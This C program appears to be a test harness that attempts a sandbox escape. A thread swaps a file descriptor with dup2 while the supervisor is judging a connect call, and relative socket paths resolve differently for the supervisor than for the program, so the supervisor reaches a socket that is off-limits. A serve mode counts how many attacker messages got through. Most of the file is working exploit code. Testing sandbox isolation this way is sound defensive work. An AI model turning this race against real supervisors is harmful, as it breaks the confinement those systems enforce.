// Has the supervisor itself connect to a socket that this program may not use.
//
// Usage: borrow serve KIND FOLDER COMMAND...    has FOLDER/secret while COMMAND runs, and tells how many
//                                               messages reached it
//        borrow attack KIND FOLDER              tries to reach it
//
// To hand over its page the supervisor has this program make a socket, copies it, and connects the copy to
// its own name. Another thread puts a socket of this program's there, whose name is a path that means
// something else from the supervisor's working directory than from this program's. KIND: `datagram` is then
// connected where this program may not connect it; `stream` has the supervisor wait for a listener that
// accepts nobody.
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

enum { MINE = 100, TRIES = 50 };

static int type;
static struct sockaddr_un secret = {.sun_family = AF_UNIX};

static void fail(const char *what) {
    perror(what);
    exit(2);
}

static int serve(char **command) {
    int server = socket(AF_UNIX, type | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (bind(server, (struct sockaddr *)&secret, sizeof secret) == -1) {
        fail("borrow: bind");
    }
    if (type == SOCK_STREAM) {
        listen(server, 0);
        int filler = socket(AF_UNIX, type | SOCK_CLOEXEC, 0);
        connect(filler, (struct sockaddr *)&secret, sizeof secret);
    }
    pid_t child = fork();
    if (child == 0) {
        execv(command[0], command);
        fail(command[0]);
    }
    waitpid(child, NULL, 0);
    int reached = 0;
    char buffer[64];
    while (recv(server, buffer, sizeof buffer, 0) > 0) {
        reached += strcmp(buffer, "from the attacker") == 0;
    }
    printf("reached %d\n", reached);
    return 0;
}

static int number;
static atomic_int swapped, isOver;

/// Replaces what appears under a number, at once.
static void *swap(void *nothing) {
    while (!swapped && !isOver) {
        if (fcntl(number, F_GETFD) != -1) {
            swapped = dup2(MINE, number) == number;
        }
    }
    return nothing;
}

/// Binds a socket, in a folder of this program's, to what is the path of the secret from the root.
static void prepare(const char *folder) {
    char path[256];
    snprintf(path, sizeof path, "%s/mine", folder);
    mkdir(path, 0700);
    if (chdir(path) == -1) {
        fail(path);
    }
    struct sockaddr_un name = {.sun_family = AF_UNIX};
    strcpy(name.sun_path, secret.sun_path + 1);
    for (char *slash = strchr(name.sun_path, '/'); slash != NULL; slash = strchr(slash + 1, '/')) {
        *slash = '\0';
        mkdir(name.sun_path, 0700);
        *slash = '/';
    }
    unlink(name.sun_path);
    int mine = socket(AF_UNIX, type, 0);
    if (bind(mine, (struct sockaddr *)&name, sizeof name) == -1) {
        fail("borrow: bind");
    }
    dup2(mine, MINE);
    close(mine);
}

static int attack(char **words) {
    prepare(words[3]);
    int plain = socket(AF_UNIX, type | SOCK_NONBLOCK, 0);
    int result = connect(plain, (struct sockaddr *)&secret, sizeof secret);
    printf("connect %s\n", result == 0 ? "0" : strerrorname_np(errno));
    if (result == 0) {
        send(plain, "from the attacker", 18, 0);
    }
    close(plain);
    fflush(stdout);
    // A program that is executed begins without the page.
    for (int i = 0; i < TRIES; i++) {
        pid_t child = fork();
        if (child == 0) {
            execl("/proc/self/exe", words[0], "once", words[2], words[3], NULL);
            _exit(9);
        }
        waitpid(child, NULL, 0);
    }
    return 0;
}

static int once(void) {
    number = open("/dev/null", O_RDONLY);
    close(number);
    pthread_t thread;
    pthread_create(&thread, NULL, swap, NULL);
    // A judged call, any.
    struct sockaddr_un nobody = {.sun_family = AF_UNIX, .sun_path = "/nobody"};
    int judged = dup2(MINE, MINE + 1);
    connect(judged, (struct sockaddr *)&nobody, sizeof nobody);
    isOver = 1;
    pthread_join(thread, NULL);
    send(MINE, "from the attacker", 18, MSG_DONTWAIT | MSG_NOSIGNAL);
    return 0;
}

int main(int count, char **words) {
    if (count < 4) {
        fputs("usage: borrow serve|attack datagram|stream FOLDER [COMMAND...]\n", stderr);
        return 2;
    }
    type = strcmp(words[2], "stream") == 0 ? SOCK_STREAM : SOCK_DGRAM;
    snprintf(secret.sun_path, sizeof secret.sun_path, "%s/secret", words[3]);
    if (strcmp(words[1], "serve") == 0) {
        return serve(words + 4);
    }
    return strcmp(words[1], "attack") == 0 ? attack(words) : once();
}
